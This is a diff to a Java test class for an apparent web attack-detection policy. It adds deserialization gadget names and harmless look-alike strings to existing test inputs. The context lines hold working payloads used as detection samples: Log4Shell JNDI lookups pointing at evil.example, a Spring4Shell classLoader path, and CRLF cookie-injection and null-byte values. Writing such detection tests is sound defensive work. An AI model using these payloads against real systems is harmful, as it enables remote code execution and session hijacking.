@@ -99,6 +99,10 @@ class AttacksPolicyTest {
             944150 => ${jndi:ldap://evil.example/a}
             944150 => ${${lower:j}ndi:ldap://evil.example/a}
             944130 => class.module.classLoader.resources.context.parent.pipeline.first.pattern
+            944130 => com.opensymphony.xwork2.ActionContext
+            944130 => java.io.BufferedReader
+            944120 => org.apache.commons.collections.functors.InvokerTransformer Runtime.exec
+            944120 => ProcessBuilder.evil.clonetransformer
             944210 => rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA
             920270 => a%00b
             921130 => x%0d%0aSet-Cookie: admin=1
@@ -146,6 +150,10 @@ class AttacksPolicyTest {
             #hashtag
             2+2=4
             e=mc^2
+            java coffee beans
+            runtime of the movie
+            getproperty docs for beginners
+            struts and frets
             """)
     void benignLookAlikesPassAtParanoia1(String value) {
         AttacksPolicy policy = pl(1);
